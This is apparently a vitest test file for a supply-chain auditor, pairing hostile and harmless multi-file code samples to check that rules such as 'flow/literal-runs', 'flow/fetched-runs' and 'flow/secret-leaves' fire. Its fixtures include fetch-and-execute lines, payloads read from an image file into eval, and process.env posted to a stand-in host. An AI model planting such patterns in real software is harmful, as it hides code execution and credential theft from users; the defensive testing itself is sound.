import { describe, expect, it } from "vitest"
import { audited } from "./replicas/audited.ts"
import { noise, packageOf } from "./replicas/kit.ts"
import type { Files, Sample } from "./replicas/replica.ts"

const package_ = packageOf("tar.gz", "made", "1.0.0")
const sample = (files: Files): Sample => ({
  history: [{ message: "made", date: "2024-01-01", files, tags: ["v1.0.0"] }],
  ref: "refs/tags/v1.0.0",
  artifact: package_(files),
})

const payload = Buffer.from("open('MARKER', 'w').write('x')\n".repeat(4)).toString("base64")
const icon = { "p/icon.png": noise("a", 3000) }
const send = (what: string): string => `fetch("https://a.example.org/", { method: "POST", body: ${what} })`

const oneByOne = (last: string): Files => ({
  "m0.py": "def f0(x): exec(x)\n",
  ...Object.fromEntries(
    Array.from({ length: 5 }, (_, at) => [`m${at + 1}.py`, `from .m${at} import f${at}\ndef f${at + 1}(x): f${at}(x)\n`]),
  ),
  "z.py": `import base64\nfrom .m5 import f5\n${last}\n`,
})

/** A program in several files; the same, where what is run or sent is something else. */
const rows: readonly (readonly [name: string, rule: string, fires: Files, silent: Files])[] = [
  [
    "a name that Python imports",
    "flow/literal-runs",
    { "p/d.py": `B = "${payload}"\n`, "p/a.py": "import base64\nfrom .d import B\nexec(base64.b64decode(B))\n" },
    { "p/d.py": `B = "${payload}"\n`, "p/a.py": "import base64\nfrom .d import B\nprint(base64.b64decode(B))\n" },
  ],
  [
    "six functions in six files, each called by one",
    "flow/literal-runs",
    oneByOne(`f5(base64.b64decode("${payload}"))`),
    oneByOne(`len(base64.b64decode("${payload}"))`),
  ],
  [
    "numbers of a list, of which letters are made",
    "flow/literal-runs",
    {
      "a.js": `const l = "${[...payload.slice(0, 40)].map((one) => one.charCodeAt(0)).join()}".slice(Math.random())\neval(Buffer.from(l.split(",").map(Number)).toString())\n`,
    },
    {
      "a.js": `const l = "${[...payload.slice(0, 40)].map((one) => one.charCodeAt(0)).join()}".slice(Math.random())\neval(l.split(",").map(Number)[0])\n`,
    },
  ],
  [
    "all files below a folder that a variable of the build names",
    "flow/opaque-runs",
    { ...icon, configure: '#!/bin/sh\nfind "$srcdir" -type f | while read f; do tail -c +100 "$f" | tr a-z n-za-m | sh; done\n' },
    { ...icon, configure: '#!/bin/sh\nfind "$srcdir" -type f | while read f; do tail -c +100 "$f" | tr a-z n-za-m >/dev/null; done\n' },
  ],
  [
    "what a program prints that fetches",
    "flow/fetched-runs",
    { "a.js": `eval(require("child_process").spawnSync("curl", ["-s", "https://a.example.org/x"]).stdout.toString())\n` },
    { "a.js": `console.log(require("child_process").spawnSync("curl", ["-s", "https://a.example.org/x"]).stdout.toString())\n` },
  ],
  [
    "a file that a program fetched, given to an interpreter",
    "flow/fetched-runs",
    {
      "p/a.py": `import subprocess\nsubprocess.run(["wget", "-qO", "/tmp/p.sh", "https://a.example.org/x"])\nsubprocess.run(["sh", "-x", "/tmp/p.sh"])\n`,
    },
    {
      "p/a.py": `import subprocess\nsubprocess.run(["wget", "-qO", "/tmp/p.txt", "https://a.example.org/x"])\nsubprocess.run(["sh", "-x", "/tmp/p.sh"])\n`,
    },
  ],
  [
    "a number that is read from a literal, which is no program",
    "flow/literal-runs",
    { "a.js": `function run(text) { eval(text) }\nrun(atob(String("${payload}".slice(Math.random()))))\n` },
    { "a.js": `function run(text) { eval(text) }\nrun(Number(/:([0-9]+)/.exec("${payload}:12".slice(Math.random()))[1]))\n` },
  ],
  [
    "all names that Python imports",
    "flow/literal-runs",
    { "p/d.py": `B = "${payload}"\n`, "p/a.py": "import base64\nfrom p.d import *\nexec(base64.b64decode(B))\n" },
    { "p/d.py": `B = "${payload}"\n`, "p/a.py": "import base64\nfrom p.d import *\nexec(base64.b64decode(C))\n" },
  ],
  [
    "what a function of a module gives",
    "flow/opaque-runs",
    {
      ...icon,
      "p/d.py": 'def f():\n  return open(__file__.replace("d.py", "icon.png"), "rb").read()[9:]\n',
      "p/a.py": "from . import d\nexec(d.f())\n",
    },
    {
      ...icon,
      "p/d.py": 'def f():\n  return open(__file__.replace("d.py", "icon.png"), "rb").read()[9:]\n',
      "p/a.py": "from . import d\nlen(d.f())\n",
    },
  ],
  [
    "what a function of a module makes of what it is given",
    "flow/literal-runs",
    { "p/d.py": "import base64\ndef f(b):\n  return base64.b64decode(b)\n", "p/a.py": `from .d import f\nexec(f("${payload}"))\n` },
    { "p/d.py": "import base64\ndef f(b):\n  return base64.b64decode(b)\n", "p/a.py": `from .d import f\nprint(f("${payload}"))\n` },
  ],
  [
    "what a function of a module runs, by its name",
    "flow/opaque-runs",
    {
      ...icon,
      "p/d.py": "def f(a, b=0):\n  g(b)\ndef g(c):\n  exec(c)\n",
      "p/a.py": 'import p.d\np.d.f(1, b=open("p/icon.png", "rb").read())\n',
    },
    {
      ...icon,
      "p/d.py": "def f(a, b=0):\n  g(b)\ndef g(c):\n  len(c)\n",
      "p/a.py": 'import p.d\np.d.f(1, b=open("p/icon.png", "rb").read())\n',
    },
  ],
  [
    "a method of an object of a class",
    "flow/opaque-runs",
    {
      ...icon,
      "p/d.py": 'class C:\n  def f(self):\n    return open("p/icon.png", "rb").read()\n',
      "p/a.py": "from .d import C\nexec(C().f())\n",
    },
    {
      ...icon,
      "p/d.py": 'class C:\n  def f(self):\n    return open("p/icon.png", "rb").read()\n',
      "p/a.py": "from .d import C\nlen(C().f())\n",
    },
  ],
  [
    "a field of exports",
    "flow/literal-runs",
    { "d.js": `exports.b = "${payload}"\n`, "a.js": 'const { b } = require("./d")\neval(atob(b))\n' },
    { "d.js": `exports.b = "${payload}"\n`, "a.js": 'const { c } = require("./d")\neval(atob(c))\n' },
  ],
  [
    "what is exported again under another name",
    "flow/literal-runs",
    {
      "d.js": `const b = "${payload}"\nexport { b as c }\n`,
      "e.js": 'export { c as default } from "./d.js"\n',
      "f.js": 'export * from "./g.js"\nexport { default as h } from "./e.js"\n',
      "a.js": 'import { h } from "./f.js"\neval(atob(h))\n',
    },
    {
      "d.js": `const b = "${payload}"\nexport { b as c }\n`,
      "e.js": 'export { c as default } from "./d.js"\n',
      "f.js": 'export * from "./g.js"\nexport { default as i } from "./e.js"\n',
      "a.js": 'import { h } from "./f.js"\neval(atob(h))\n',
    },
  ],
  [
    "all that another module has",
    "flow/literal-runs",
    {
      "d.ts": `export const b = "${payload}"\n`,
      "e.ts": 'export * from "./d.js"\n',
      "a.ts": 'import * as e from "./e"\neval(atob(e.b))\n',
    },
    { "d.ts": `export const b = "${payload}"\n`, "e.ts": 'export * from "./d.js"\n', "a.ts": 'import * as e from "./e"\nlog(atob(e.b))\n' },
  ],
  [
    "a function that is all that a module has",
    "flow/opaque-runs",
    {
      ...icon,
      "d.js": "module.exports = (x) => new Function(x)()\n",
      "a.js": 'require("./d")(require("fs").readFileSync(__dirname + "/p/icon.png").toString())\n',
    },
    {
      ...icon,
      "d.js": "module.exports = (x) => x.length\n",
      "a.js": 'require("./d")(require("fs").readFileSync(__dirname + "/p/icon.png").toString())\n',
    },
  ],
  [
    "a default function that sends what it is given",
    "flow/secret-leaves",
    {
      "d.js": `export default function post(x) { return ${send("x")} }\n`,
      "a.js": 'import post from "./d.js"\npost(JSON.stringify(process.env))\n',
    },
    {
      "d.js": `export default function post(x) { return ${send("x")} }\n`,
      "a.js": 'import post from "./d.js"\npost(process.env.CI)\n',
    },
  ],
  [
    "a secret that another file looks up",
    "flow/secret-leaves",
    { "d.js": "exports.key = () => JSON.stringify(process.env)\n", "a.js": `const d = require("./d")\n${send("d.key()")}\n` },
    { "d.js": "exports.key = () => process.env.CI\n", "a.js": `const d = require("./d")\n${send("d.key()")}\n` },
  ],
  [
    "what a module of CMake starts the compiler with",
    "capability/wraps-compiler",
    {
      "CMakeLists.txt": "project(made C)\ninclude(cmake/Speed.cmake)\nadd_executable(made a.c)\n",
      "cmake/Speed.cmake": `foreach(l C CXX)\n  set(CMAKE_\${l}_COMPILER_LAUNCHER "\${CMAKE_CURRENT_LIST_DIR}/../tool/through")\nendforeach()\n`,
      "tool/through": '#!/bin/sh\nexec "$@"\n',
    },
    {
      "CMakeLists.txt": `project(made C)\nfind_program(T ccache)\nset(CMAKE_C_COMPILER_LAUNCHER \${T})\nadd_executable(made a.c)\n`,
      "tool/through": '#!/bin/sh\nexec "$@"\n',
    },
  ],
]

const matching = `file(STRINGS tests/v.txt rows)\nforeach(row IN LISTS rows)\n  if(row MATCHES "^0 (.+)$")\n    string(REGEX MATCHALL ".." octets "\${CMAKE_MATCH_1}")\n    foreach(o IN LISTS octets)\n      math(EXPR v "0x\${o} ^ 21")\n      string(ASCII \${v} c)\n      string(APPEND text "\${c}")\n    endforeach()\n  endif()\nendforeach()\n`
const vector = `0 ${"737c79703d".repeat(40)}\n`

const binary = { "p/icon.png": noise("a", 3000) }
const rb = (last: string): Files => ({
  ...binary,
  "lib/d.rb": 'module D\n  def self.load\n    File.binread("p/icon.png")\n  end\nend\ndef run(x)\n  eval(x)\nend\n',
  "lib/a.rb": `require_relative "d"\n${last}\n`,
})
const php = (last: string): Files => ({
  ...binary,
  "d.php": '<?php\nfunction load() { return file_get_contents("p/icon.png"); }\nfunction run($x) { eval($x); }\n',
  "a.php": `<?php\nrequire __DIR__ . "/d.php";\n${last}\n`,
})
const perl = (last: string): Files => ({
  ...binary,
  "lib/My/D.pm": 'package My::D;\nsub load { open my $f, "<", "p/icon.png"; return <$f>; }\nsub run { eval $_[0]; }\n1;\n',
  "a.pl": `use My::D qw(load run);\n${last}\n`,
})

/** What a file takes in has its names everywhere. */
const taken: typeof rows = [
  ["Ruby, a method of a module", "flow/opaque-runs", rb("eval(D.load)"), rb("puts(D.load)")],
  ["Ruby, a function that runs", "flow/opaque-runs", rb('run(File.binread("p/icon.png"))'), rb('puts(File.binread("p/icon.png"))')],
  ["PHP, what a function gives", "flow/opaque-runs", php("eval(load());"), php("echo load();")],
  [
    "PHP, a function that runs",
    "flow/opaque-runs",
    php('run(file_get_contents("p/icon.png"));'),
    php('echo file_get_contents("p/icon.png");'),
  ],
  ["Perl, a function by its full name", "flow/opaque-runs", perl("eval My::D::load();"), perl("print My::D::load();")],
  ["Perl, a function that is imported, and one that runs", "flow/opaque-runs", perl("run(load());"), perl("print load();")],
]

/** What may not hide behind names of other files. */
const hidden: typeof rows = [
  [
    "a method of a library in a file that takes in another (Ruby)",
    "flow/opaque-runs",
    { ...binary, "lib/x.rb": "", "lib/a.rb": 'require_relative "x"\nFoo.class_eval(Base64.decode64(File.read("p/icon.png")))\n' },
    { ...binary, "lib/x.rb": "", "lib/a.rb": 'require_relative "x"\nFoo.puts(Base64.decode64(File.read("p/icon.png")))\n' },
  ],
  [
    "a method of a library in a file that takes in another (Python)",
    "flow/fetched-runs",
    { "c.py": "", "setup.py": 'import third\nfrom c import *\nexec(third.urlopen("https://a.example.org/x").read())\n' },
    { "c.py": "", "setup.py": 'import third\nfrom c import *\nprint(third.urlopen("https://a.example.org/x").read())\n' },
  ],
  [
    "a record that was looked into first, three deep",
    "flow/opaque-runs",
    {
      ...binary,
      "d.js": 'const f = { g: () => require("fs").readFileSync("p/icon.png") }\nexports.a = { b: { c: f } }\nexports.f = f\n',
      "a.js": 'eval(require("./d").f.g().toString())\n',
    },
    {
      ...binary,
      "d.js": 'const f = { g: () => require("fs").readFileSync("p/icon.png") }\nexports.a = { b: { c: f } }\nexports.f = f\n',
      "a.js": 'log(require("./d").f.g().toString())\n',
    },
  ],
  [
    "one of two records that a module may be",
    "flow/opaque-runs",
    {
      ...binary,
      "d.js": 'const fs = require("fs")\nmodule.exports = x ? { f: () => fs.readFileSync("p/icon.png") } : { f: () => "" }\n',
      "a.js": 'eval(require("./d").f().toString())\n',
    },
    {
      ...binary,
      "d.js": 'const fs = require("fs")\nmodule.exports = x ? { f: () => fs.statSync("p/icon.png") } : { f: () => "" }\n',
      "a.js": 'eval(require("./d").f().toString())\n',
    },
  ],
  [
    "a member of a function is not the function (a client that is configured)",
    "flow/secret-leaves",
    { "d.js": `module.exports = function f(x) { return ${send("x")} }\n`, "a.js": 'require("./d")(JSON.stringify(process.env))\n' },
    {
      "d.js": `module.exports = function f(x) { return ${send("x")} }\nmodule.exports.set = (x) => { y = x.HTTP_PROXY }\n`,
      "a.js": 'require("./d").set(process.env)\n',
    },
  ],
  [
    "functions of texts inside a text are others'",
    "flow/opaque-runs",
    {
      ...binary,
      "d.js": "exports.f = (x) => new Function(x)()\n",
      "a.js": 'require("./d").f(require("fs").readFileSync("p/icon.png").toString())\n',
    },
    {
      ...binary,
      "d.js": 'exports.f = (x) => x.length\nsetTimeout("function g(p) { eval(p) }")\n',
      "a.js": 'require("./d").f(require("fs").readFileSync("p/icon.png").toString())\n',
    },
  ],
]

/** Texts that build systems read, take apart and evaluate. */
const evaluated: typeof rows = [
  [
    "make, what a program prints of a document",
    "flow/opaque-runs",
    { Makefile: "F = $(shell sed -n 's/^x //p' doc/a.1 | tr a-z n-za-m)\n$(eval $(F))\nall:\n\tcc -o a a.c\n", "doc/a.1": "x a\n" },
    { Makefile: "F = $(shell sed -n 's/^x //p' doc/a.1 | tr a-z n-za-m)\n$(eval G = $(F))\nall:\n\tcc -o a a.c\n", "doc/a.1": "x a\n" },
  ],
  [
    "CMake, what is matched in a test's data",
    "flow/opaque-runs",
    { "CMakeLists.txt": `${matching}cmake_language(EVAL CODE "\${text}")\n`, "tests/v.txt": vector },
    { "CMakeLists.txt": `${matching}message("\${text}")\n`, "tests/v.txt": vector },
  ],
]

describe("what one file has and another uses", () => {
  it.each([...rows, ...taken, ...hidden, ...evaluated])("%s", async (_, rule, fires, silent) => {
    const found = async (files: Files): Promise<readonly string[]> => (await audited(sample(files))).findings.map((finding) => finding.rule)
    expect(await found(fires)).toContain(rule)
    expect(await found(silent)).not.toContain(rule)
  })

  it("ends where files take in each other, and where one hands on what the next has, five thousand times", async () => {
    const circle = Object.fromEntries(
      Array.from({ length: 12 }, (_, at) => [
        `lib/m${at}.rb`,
        `${Array.from({ length: 12 }, (__, other) => `require_relative "m${other}"\n`).join("")}eval(Foo.bar${at}(File.read("x")))\n`,
      ]),
    )
    const chain = Object.fromEntries(
      Array.from({ length: 5000 }, (_, at) => [`m${at}.js`, `exports.x = "a" + require("./m${at + 1}").x\n`]),
    )
    const { findings } = await audited(
      sample({
        ...circle,
        ...chain,
        ...binary,
        "a.js": 'eval(require("./m0").x)\neval(require("fs").readFileSync("p/icon.png").toString())\n',
      }),
    )
    expect(findings.map(({ rule }) => rule)).toContain("flow/opaque-runs")
  })
})
